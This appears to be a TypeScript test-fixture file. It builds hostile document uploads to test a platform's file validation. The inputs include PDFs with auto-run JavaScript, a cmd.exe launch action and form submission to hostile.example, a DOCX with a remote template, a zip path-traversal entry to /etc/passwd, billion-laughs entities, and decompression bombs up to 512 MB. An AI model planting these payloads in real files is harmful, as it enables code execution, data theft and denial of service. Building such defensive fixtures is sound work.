// Documents that act when they are opened, grow when they are read, or are archives of something else.
import { constants, deflateRawSync } from "node:zlib";
import { compoundFile, lockedPdf, pdf, pdfWith } from "../../server/platform/files/papers";
import { archive as zip, docx, plainZip } from "../../server/platform/files/pictures";
import { type Hostile, hostile, page, script } from "./hostile";

const word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const wordPart = `<Types><Override PartName="/word/document.xml" ContentType="${word}.main+xml"/></Types>`;
const megabyte = 1024 ** 2;

export function hostileDocuments(): Hostile[] {
  const types = (kind: string): [string, string] => [
    "[Content_Types].xml",
    wordPart.replace(`${word}.main+xml`, kind),
  ];
  return [
    hostile(
      "document",
      "PDF that runs a script when opened",
      "application/pdf",
      pdfWith(`/OpenAction << /S /JavaScript /JS (${script.replaceAll(/[()]/g, "")}) >>`),
    ),
    hostile(
      "document",
      "PDF that starts a program",
      "application/pdf",
      pdfWith(`/OpenAction << /S /Launch /F (cmd.exe) >>`),
    ),
    hostile(
      "document",
      "PDF that goes to an address",
      "application/pdf",
      pdfWith(`/OpenAction << /S /URI /URI (javascript:${script.replaceAll(/[()]/g, "")}) >>`),
    ),
    hostile(
      "document",
      "PDF with a form that sends itself",
      "application/pdf",
      pdfWith(`/AA << /O << /S /SubmitForm /F (http://hostile.example) >> >>`),
    ),
    hostile(
      "document",
      "PDF with a program in it",
      "application/pdf",
      pdfWith(`/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >> >>`),
    ),
    hostile(
      "document",
      "PDF whose pages contain themselves",
      "application/pdf",
      `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [2 0 R] /Count 1 >>\nendobj\ntrailer\n<< /Root 1 0 R /Prev 0 >>\n%%EOF\n`,
    ),
    hostile("document", "PDF behind a page", "application/pdf", Buffer.concat([Buffer.from(page), pdf])),
    hostile(
      "document",
      "PDF with a page behind it",
      "application/pdf",
      Buffer.concat([pdf, Buffer.from(page)]),
    ),
    hostile("document", "PDF that is an archive too", "application/pdf", Buffer.concat([pdf, plainZip])),
    hostile("document", "PDF of nine bytes", "application/pdf", "%PDF-1.4\n"),
    hostile("document", "PDF cut in half", "application/pdf", pdf.subarray(0, pdf.length / 2)),
    hostile(
      "document",
      "PDF of a header and noise",
      "application/pdf",
      `%PDF-1.4\n${"9 0 obj << x".repeat(900)}`,
    ),
    hostile(
      "document",
      "PDF with a password",
      "application/pdf",
      lockedPdf({ reader: "secret", owner: "boss" }),
    ),
    hostile("document", "page called PDF", "application/pdf", page),
    hostile(
      "bomb",
      "PDF with a stream of 100 MB",
      "application/pdf",
      Buffer.concat([
        pdf.subarray(0, 9),
        Buffer.from("1 0 obj\n<< /Filter /FlateDecode /Length 1 >>\nstream\n"),
        deflateRawSync(Buffer.alloc(100 * megabyte)),
        Buffer.from("\nendstream\nendobj\n%%EOF\n"),
      ]),
    ),
    hostile("bomb", "PDF whose table unpacks to 512 MB", "application/pdf", tableBomb()),
    hostile(
      "bomb",
      "DOCX with a text of 200 MB",
      word,
      archive([types(`${word}.main+xml`), ["word/document.xml", Buffer.alloc(200 * megabyte)]]),
    ),
    hostile(
      "bomb",
      "DOCX whose list of parts has 200 MB",
      word,
      archive([
        ["[Content_Types].xml", Buffer.concat([Buffer.from(wordPart), Buffer.alloc(200 * megabyte, 0x20)])],
      ]),
    ),
    hostile(
      "bomb",
      "DOCX of 60,000 parts",
      word,
      archive([
        types(`${word}.main+xml`),
        ...Array.from({ length: 60_000 }, (_, nth): [string, string] => [`word/${nth}.xml`, ""]),
      ]),
    ),
    hostile(
      "bomb",
      "DOCX with entities of a billion laughs",
      word,
      archive([
        types(`${word}.main+xml`),
        ["word/document.xml", `<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><a>&b;</a>`],
      ]),
    ),
    hostile("bomb", "archive that says 4 GB", word, sayingSize(docx, 0xfffffffe)),
    hostile(
      "document",
      "DOCX with macros",
      word,
      archive([
        types("application/vnd.ms-word.document.macroEnabled.main+xml"),
        ["word/vbaProject.bin", "x"],
      ]),
    ),
    hostile(
      "document",
      "DOCX that loads its template from elsewhere",
      word,
      archive([
        types(`${word}.main+xml`),
        [
          "word/_rels/settings.xml.rels",
          `<Relationship Target="http://hostile.example/t.dotm" TargetMode="External"/>`,
        ],
      ]),
    ),
    hostile(
      "document",
      "archive with names that climb",
      word,
      archive([["../../../../etc/passwd", "x"], types(`${word}.main+xml`)]),
    ),
    hostile("document", "archive called DOCX", word, plainZip),
    hostile(
      "document",
      "program of Java called DOCX",
      word,
      archive([
        ["META-INF/MANIFEST.MF", "Main-Class: A"],
        ["A.class", "x"],
      ]),
    ),
    hostile("document", "spreadsheet called DOC", "application/msword", compoundFile("Workbook")),
    hostile(
      "document",
      "DOC with macros",
      "application/msword",
      Buffer.concat([compoundFile("WordDocument"), Buffer.from("_VBA_PROJECT", "utf16le")]),
    ),
    hostile("document", "DOC with a password", "application/msword", compoundFile("WordDocument", 0x0100)),
    hostile("document", "DOC cut short", "application/msword", compoundFile("WordDocument").subarray(0, 20)),
  ];
}

/** A ZIP of compressed entries, except empty ones. */
function archive(entries: readonly (readonly [name: string, content: Uint8Array | string])[]): Buffer {
  return zip(
    entries.map(([name, content]) => ({
      name,
      content: Buffer.from(content),
      isPacked: content.length > 0,
    })),
  );
}

/** An archive with a first entry that claims to have `size` bytes, packed and unpacked. */
function sayingSize(bytes: Uint8Array, size: number): Buffer {
  const copy = Buffer.from(bytes);
  copy.writeUInt32LE(size, 18);
  copy.writeUInt32LE(size, 22);
  return copy;
}

/** A PDF with its pages in a stream that unpacks to 512 MB, so that reading them unpacks it. */
function tableBomb(): Buffer {
  // One block that says the same once more, joined as often as needed, is 512 MB without packing them.
  const block = deflateRawSync(Buffer.alloc(64 * megabyte, 0x20), { finishFlush: constants.Z_FULL_FLUSH });
  const packed = Buffer.concat([Buffer.from("789c", "hex"), ...Array.from({ length: 8 }, () => block)]);
  const first = Buffer.from("%PDF-1.5\n");
  const stream = Buffer.concat([
    Buffer.from(
      `1 0 obj\n<< /Type /ObjStm /N 2 /First 500000000 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`,
    ),
    packed,
    Buffer.from("\nendstream\nendobj\n"),
  ]);
  const rows = Buffer.alloc(4 * 7);
  for (const [nth, [kind, where]] of [
    [0, 0],
    [1, first.length],
    [2, 1],
    [2, 1],
  ].entries()) {
    rows.writeUInt8(kind ?? 0, nth * 7);
    rows.writeUInt32BE(where ?? 0, nth * 7 + 1);
  }
  const at = first.length + stream.length;
  const table = Buffer.concat([
    Buffer.from(`5 0 obj\n<< /Type /XRef /Size 4 /W [1 4 2] /Root 2 0 R /Length ${rows.length} >>\nstream\n`),
    rows,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${at}\n%%EOF\n`),
  ]);
  return Buffer.concat([first, stream, table]);
}
